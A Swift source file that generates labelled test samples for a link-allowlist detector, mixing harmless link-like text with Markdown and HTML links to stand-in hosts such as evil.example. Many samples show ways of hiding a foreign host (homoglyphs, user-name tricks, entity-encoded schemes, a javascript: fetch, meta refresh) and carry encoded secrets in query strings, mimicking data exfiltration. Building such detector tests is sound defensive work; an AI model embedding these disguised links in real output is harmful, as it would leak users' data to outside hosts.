/// Texts with links and images that lead to hosts of a list, and to others.
///
/// The host that is allowed is `good.example` with what lies below it.
public enum LinkSamples {
    /// The hosts that are allowed.
    public static let allowedHosts = ["good.example", "*.good.example"]

    /// Samples of a split, half of them with a link to a host that is not allowed.
    public static func samples(_ split: SampleSplit, seed: UInt64, count: Int) -> [LabelledSample] {
        var random = split.generator(seed: seed)
        return (0..<count).map { number in
            let isPositive = number.isMultiple(of: 2)
            let (style, template) = random.pick(split.share(of: isPositive ? foreign + written : friendly + written)) ?? foreign[0]
            var writer = SampleWriter(source: "links/\(style)")
            writer.write((random.pick(prose) ?? "") + " ")
            writer.write(template: template) { field in
                switch field {
                case "url": (url(isPositive, &random), nil)
                case "host": (isPositive ? host(&random) : "docs.good.example", nil)
                case "data": (random.pick("q=c2VjcmV0", "id=42&k=s3cret", "d=name%20and%20key"), nil)
                default: nil
                }
            }
            writer.write(" " + (random.pick(prose) ?? ""))
            return writer.sample(isPositive: isPositive)
        }
    }

    private static func url(_ isForeign: Bool, _ random: inout SeededGenerator) -> String {
        isForeign
            ? "https://\(host(&random))/\(random.pick("p", "a/b", "x.png", "collect"))?q=c2VjcmV0"
            : random.pick("https://good.example/a.png", "https://docs.good.example/guide#start", "HTTPS://GOOD.example/x?y=1")
    }

    private static func host(_ random: inout SeededGenerator) -> String {
        random.pick(
            "evil.example", "good.example.evil.test", "xgood.example", "203.0.113.7", "xn--gd-hkaa.example", "gооd.example",
            "good.example@evil.test")
    }

    private static let prose = [
        "See the report.", "The array is a[i](x) in C++.", "We have three options [1].", "If x < y and y > z, stop.", "Read more:", "Done!",
        "Use `vector<int>` here.", "The ratio is 3:4.", "Best regards", "| a | b |",
    ]

    /// Ways of writing a link; the address decides.
    private static let written: [(style: String, template: String)] = [
        ("inline", "[the page]({url})"), ("inline title", "[the page]({url} \"a title\")"), ("image", "![chart]({url})"),
        ("angle", "[x](<{url}>)"), ("automatic", "<{url}>"), ("bare", "{url}"), ("definition", "[a][1]\n\n[1]: {url}"),
        ("image in link", "[![a](https://good.example/i.png)]({url})"), ("anchor", "<a href=\"{url}\">x</a>"),
        ("img", "<img src='{url}' alt=x>"),
        ("img unquoted", "<IMG SRC={url}>"), ("srcset", "<img srcset=\"https://good.example/1.png 1x, {url} 2x\">"),
        ("frame", "<iframe src=\"{url}\"></iframe>"), ("style", "<div style=\"background:url({url})\">x</div>"),
        ("css", "body {{ background: url('{url}') }"),
        ("import", "@import \"{url}\";"), ("form", "<form action=\"{url}\"><button>go</button></form>"),
        ("script", "<script src=\"{url}\"></script>"),
        ("brackets", "[a [nested] text]({url})"), ("line end", "[x](\n{url}\n)"),
    ]

    /// Ways that only who hides a host writes.
    private static let foreign: [(style: String, template: String)] = [
        ("relative scheme", "![x](//evil.example/?{data})"), ("backslashes", "[x](https:\\\\evil.example/?{data})"),
        ("user name", "https://good.example@evil.example/?{data}"),
        ("user name escaped", "[x](https://good.example\\@evil.example/?{data})"),
        ("entity", "<a href=\"https&#58;//evil.example/?{data}\">x</a>"), ("entity in Markdown", "[x](https&colon;//evil.example/?{data})"),
        ("tab", "<img src=\"ht\ttps://evil.example/?{data}\">"), ("script scheme", "[x](javascript:fetch`//evil.example`)"),
        ("data scheme", "<iframe src=\"data:text/html,hello\"></iframe>"), ("percent", "https://%65vil.example/?{data}"),
        ("www", "www.evil.example/?{data}"),
        ("unfinished", "![x](https://evil.example/?{data}"), ("IPv6", "http://[2001:db8::1]/?{data}"),
        ("slash mix", "<img src=\"/\\evil.example/?{data}\">"),
        ("css escape", "url(\\68ttps://evil.example/?{data})"), ("dot", "https://good.example.evil.example./?{data}"),
        ("srcdoc", "<iframe srcdoc=\"&lt;img src=//evil.example/?{data}&gt;\"></iframe>"),
        ("refresh", "<meta http-equiv=refresh content=\"0;url=//evil.example\">"),
        ("nested", "[https://good.example/a](https://evil.example/?{data})"), ("broken tag", "<a, title=\"![x](//evil.example/?{data})\">"),
        ("poster", "<video poster=//evil.example/?{data}></video>"), ("other scheme", "ftp://evil.example/{data}"),
    ]

    /// Text that looks like links.
    private static let friendly: [(style: String, template: String)] = [
        ("relative", "[x](/docs/page.html)"), ("anchor", "[x](#part-2)"), ("footnote", "A claim[^1].\n\n[^1]: The source is a book."),
        ("code", "let x = map[key](value);"), ("generic", "HashMap<String, Vec<u8>>"), ("comparison", "a <b and c> d"),
        ("check boxes", "- [ ] open\n- [x] done"),
        ("path", "C:\\\\temp\\\\file and ~/bin"), ("time", "at 10:30, ratio 2:1"), ("mail", "write to ada@good.example"),
        ("table", "| [a] | (b) |"),
        ("heading tag", "<h2 class=\"big\">Title</h2>"), ("image local", "<img src=\"logo.png\" alt=\"Logo\">"),
        ("word", "the https scheme, www and ftp are words"),
    ]
}
